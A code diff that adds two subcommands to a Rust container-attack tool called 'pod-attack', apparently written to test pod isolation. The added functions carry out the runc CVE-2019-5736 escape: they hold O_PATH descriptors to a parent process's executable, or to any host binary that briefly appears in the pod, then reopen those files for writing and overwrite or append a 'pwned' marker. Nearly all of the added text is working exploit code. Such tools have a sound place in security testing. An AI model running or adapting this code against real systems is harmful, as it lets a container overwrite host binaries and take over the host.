@@ -10,6 +10,14 @@
 //! pod-attack fds               the descriptors this process holds
 //! pod-attack creds             session, ids and all five capability sets
 //! pod-attack mknod PATH MAJ MIN   make a character device and write to it
+//! pod-attack overwrite-parent-exe REPORT
+//!                              CVE-2019-5736: keep the parent's executable open (O_PATH),
+//!                              and once the parent exits, overwrite it; the outcome goes to
+//!                              the file REPORT
+//! pod-attack watch-exes REPORT SECS
+//!                              the same, from a background process that watches every new
+//!                              process of the pod for SECS seconds: any executable that is
+//!                              not one of the image's is kept open and, at the end, written
 //! ```
 use std::ffi::CString;
 use std::fs;
@@ -31,8 +39,10 @@ fn main() {
         ["fds"] => fds(),
         ["creds"] => creds(),
         ["mknod", path, major, minor] => mknod(path, major, minor),
+        ["overwrite-parent-exe", report] => overwrite_parent_exe(report),
+        ["watch-exes", report, secs] => watch_exes(report, secs),
         _ => {
-            eprintln!("usage: pod-attack tiocsti TEXT | chroot-escape | exes | fds | creds | mknod PATH MAJ MIN");
+            eprintln!("usage: pod-attack tiocsti TEXT | chroot-escape | exes | fds | creds | mknod PATH MAJ MIN | overwrite-parent-exe REPORT | watch-exes REPORT SECS");
             std::process::exit(2);
         }
     };
@@ -194,4 +204,129 @@ fn mknod(path: &str, major: &str, minor: &str) -> String {
         unsafe { libc::close(fd) };
     }
     out
+}
+
+/// The runc CVE-2019-5736 pattern: while our parent (whatever started us in the pod) runs,
+/// its executable cannot be opened for writing (ETXTBSY), so keep an O_PATH descriptor of it;
+/// a detached child reopens it for writing once the parent has exited.
+fn overwrite_parent_exe(report: &str) -> String {
+    // SAFETY: getppid takes no arguments.
+    let parent = unsafe { libc::getppid() };
+    let exe = format!("/proc/{parent}/exe");
+    let target = fs::read_link(&exe)
+        .map(|t| t.display().to_string())
+        .unwrap_or_else(|e| format!("({e})"));
+    // SAFETY: a valid C string and plain flags.
+    let fd = unsafe { libc::open(cstr(&exe).as_ptr(), libc::O_PATH) };
+    let mut out = format!("parent {parent} exe {target}: open O_PATH {}\n", result(fd));
+    if fd < 0 {
+        let _ = fs::write(report, "failed: parent executable not reachable\n");
+        return out;
+    }
+    // SAFETY: fork in a single-threaded program; the child only makes plain calls and exits.
+    match unsafe { libc::fork() } {
+        0 => {
+            // SAFETY: plain calls.
+            unsafe { libc::setsid() };
+            let reopen = format!("/proc/self/fd/{fd}");
+            let mut outcome = String::from("failed: never writable\n");
+            for _ in 0..100 {
+                // SAFETY: a valid C string and plain flags.
+                let w =
+                    unsafe { libc::open(cstr(&reopen).as_ptr(), libc::O_WRONLY | libc::O_TRUNC) };
+                if w >= 0 {
+                    let payload = b"#!/bin/sh\necho pwned\n";
+                    // SAFETY: writes a live buffer, then closes the descriptor opened above.
+                    unsafe {
+                        libc::write(w, payload.as_ptr().cast(), payload.len());
+                        libc::close(w);
+                    }
+                    outcome = format!("written {target}\n");
+                    break;
+                }
+                std::thread::sleep(std::time::Duration::from_millis(50));
+            }
+            let _ = fs::write(report, outcome);
+            std::process::exit(0);
+        }
+        -1 => out.push_str("fork failed\n"),
+        _ => out.push_str("waiting in the background\n"),
+    }
+    out
+}
+
+/// Forks a watcher that, for `secs` seconds, looks at every process of the pod as fast as it
+/// can. Whatever runs a binary that is not the image's own (a host binary visible in the
+/// pod's PID namespace, even for an instant) gets its executable held with O_PATH; when the
+/// time is up, each held file is opened for writing and overwritten. Everything seen goes to
+/// `report`.
+fn watch_exes(report: &str, secs: &str) -> String {
+    let Ok(secs) = secs.parse::<u64>() else {
+        return "watch-exes: bad seconds\n".into();
+    };
+    // SAFETY: fork in a single-threaded program; the parent returns at once.
+    match unsafe { libc::fork() } {
+        0 => {}
+        -1 => return "fork failed\n".into(),
+        _ => return "watching in the background\n".into(),
+    }
+    // SAFETY: a plain call.
+    unsafe { libc::setsid() };
+    let own = |t: &str| t.starts_with("/bin/");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
+    let mut seen: Vec<String> = Vec::new();
+    let mut held: Vec<(String, libc::c_int)> = Vec::new();
+    while std::time::Instant::now() < deadline {
+        let Ok(entries) = fs::read_dir("/proc") else {
+            break;
+        };
+        for entry in entries.flatten() {
+            let name = entry.file_name();
+            let Some(pid) = name
+                .to_str()
+                .filter(|n| n.bytes().all(|b| b.is_ascii_digit()))
+            else {
+                continue;
+            };
+            let exe = format!("/proc/{pid}/exe");
+            let Ok(target) = fs::read_link(&exe) else {
+                continue;
+            };
+            let target = target.display().to_string();
+            if own(&target)
+                || held.iter().any(|(t, _)| *t == target)
+                || seen.iter().any(|s| s.starts_with(&format!("{target}:")))
+            {
+                continue;
+            }
+            // SAFETY: a valid C string and plain flags.
+            let fd = unsafe { libc::open(cstr(&exe).as_ptr(), libc::O_PATH) };
+            seen.push(format!("{target}: O_PATH {}", result(fd)));
+            if fd >= 0 {
+                held.push((target, fd));
+            }
+        }
+    }
+    let mut out = String::new();
+    for line in &seen {
+        out.push_str(&format!("seen {line}\n"));
+    }
+    for (target, fd) in held {
+        let reopen = format!("/proc/self/fd/{fd}");
+        // SAFETY: a valid C string and plain flags; closed right after.
+        let w = unsafe { libc::open(cstr(&reopen).as_ptr(), libc::O_WRONLY | libc::O_APPEND) };
+        if w >= 0 {
+            // SAFETY: writes a live buffer, then closes the descriptor opened above.
+            unsafe {
+                libc::write(w, b"pwned".as_ptr().cast(), 5);
+                libc::close(w);
+            }
+            out.push_str(&format!("written {target}\n"));
+        } else {
+            out.push_str(&format!("not written {target}: {}\n", result(w)));
+        }
+    }
+    out.push_str("end\n");
+    let _ = fs::write(report, out);
+    std::process::exit(0);
 }
